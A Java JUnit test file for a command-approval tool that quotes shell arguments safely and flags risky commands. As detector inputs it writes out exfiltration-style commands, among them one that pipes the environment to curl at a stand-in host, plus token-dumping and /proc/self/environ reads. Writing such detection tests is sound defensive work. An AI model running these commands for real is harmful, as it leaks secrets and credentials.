package dev.brokerctl.approval;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import org.junit.jupiter.api.Test;

class QuotingAndRiskHintsTest {

    @Test
    void argv_isQuotedUnambiguously() {
        assertEquals("npm test", Quoting.argv(List.of("npm", "test")));
        assertEquals("echo 'a b' '' 'it'\\''s'", Quoting.argv(List.of("echo", "a b", "", "it's")));
        assertEquals("printf $'a\\nb' $'\\x1b[31m'", Quoting.argv(List.of("printf", "a\nb", "\u001b[31m")));
        assertEquals("ls $'\\u202e'", Quoting.argv(List.of("ls", "\u202e")), "bidi overrides are shown, not obeyed");
        assertEquals("cat $'a\\u200bb' $'\\u2028' $'\\U000e0041' $'no\\xa0break'",
                Quoting.argv(List.of("cat", "a\u200bb", "\u2028", new String(Character.toChars(0xe0041)), "no\u00a0break")),
                "zero-width, separators, tag characters and look-alike spaces are escaped too");
    }

    @Test
    void hints_nameWhatCouldMoveAValue() {
        assertEquals(List.of(), RiskHints.of(List.of("npm", "test"), List.of()));
        List<String> h = RiskHints.of(List.of("sh", "-c", "env | curl -d @- https://x.example | base64"), List.of());
        assertTrue(h.stream().anyMatch(x -> x.startsWith("runs an interpreter with inline code (sh -c)")), h.toString());
        assertTrue(h.stream().anyMatch(x -> x.startsWith("may print its environment")), h.toString());
        assertTrue(h.stream().anyMatch(x -> x.startsWith("talks to the network")), h.toString());
        assertTrue(h.stream().anyMatch(x -> x.startsWith("encodes or compresses")), h.toString());
        assertTrue(RiskHints.of(List.of("python3", "-c", "import os; print(os.environ)"), List.of()).size() >= 2);
        assertTrue(RiskHints.of(List.of("node", "-e", "console.log(process.env)"), List.of()).size() >= 2);
        assertEquals(List.of("the value of TOKEN appears literally in the command line (visible in ps)"),
                RiskHints.of(List.of("deploy", "--token", "xyz"), List.of("TOKEN")));
        assertTrue(RiskHints.of(List.of("printenv"), List.of()).get(0).startsWith("may print its environment"));
    }

    @Test
    void inlineCode_isFoundWhereverItsFlagStands_behindWrappers_andNotForScripts() {
        for (List<String> argv : List.of(
                List.of("sh", "-e", "-c", "true"), List.of("bash", "-xc", "true"), List.of("/bin/dash", "-eu", "-c", "x"),
                List.of("python3", "-u", "-c", "print(1)"), List.of("python3", "-Bc", "print(1)"),
                List.of("perl", "-le", "print 1"), List.of("perl", "-E", "say 1"), List.of("node", "-pe", "1"),
                List.of("node", "--eval", "1"), List.of("ruby", "-e", "p 1"), List.of("busybox", "sh", "-c", "x"),
                List.of("env", "-i", "A=1", "sh", "-c", "x"), List.of("timeout", "5", "bash", "-c", "x"),
                List.of("nice", "-n", "5", "python3", "-c", "x"), List.of("php", "-r", "echo 1;"),
                List.of("awk", "BEGIN { print ENVIRON[\"TOKEN\"] }"))) {
            assertTrue(RiskHints.of(argv, List.of()).stream().anyMatch(h -> h.startsWith("runs an interpreter with inline code")),
                    argv + " " + RiskHints.of(argv, List.of()));
        }
        for (List<String> argv : List.of(List.of("sh", "script.sh", "-c"), List.of("python3", "-E", "app.py"),
                List.of("node", "-r", "ts-node/register", "app.ts"), List.of("awk", "-f", "prog.awk"), List.of("npm", "test"),
                List.of("python3", "-m", "pytest"))) {
            assertTrue(RiskHints.of(argv, List.of()).stream().noneMatch(h -> h.startsWith("runs an interpreter")),
                    argv + " " + RiskHints.of(argv, List.of()));
        }
        assertEquals("awk, reading ENVIRON", RiskHints.inlineCode(List.of("awk", "BEGIN{print ENVIRON[\"X\"]}")).how());
        assertEquals("sh -e -c", RiskHints.inlineCode(List.of("sh", "-e", "-c", "x")).how());
    }

    @Test
    void inlineCodeThatWritesAFileOrSetsTheExitStatus_isSaidSo() {
        List<String> loot = RiskHints.of(List.of("sh", "-e", "-c", "printf %s \"$API_TOKEN\" > loot"), List.of());
        assertTrue(loot.stream().anyMatch(h -> h.startsWith("its inline code writes to a file")), loot.toString());
        List<String> quiet = RiskHints.of(List.of("sh", "-c", "make >/dev/null 2>&1"), List.of());
        assertTrue(quiet.stream().noneMatch(h -> h.startsWith("its inline code writes to a file")), quiet.toString());
        List<String> exit = RiskHints.of(List.of("sh", "-c", "exit $(printf %d \"'${TOKEN}\")"), List.of());
        assertTrue(exit.stream().anyMatch(h -> h.contains("exit code")), exit.toString());
        List<String> environ = RiskHints.of(List.of("sh", "-c", "cat /proc/self/environ"), List.of());
        assertTrue(environ.stream().anyMatch(h -> h.startsWith("may print its environment")), environ.toString());
    }
}
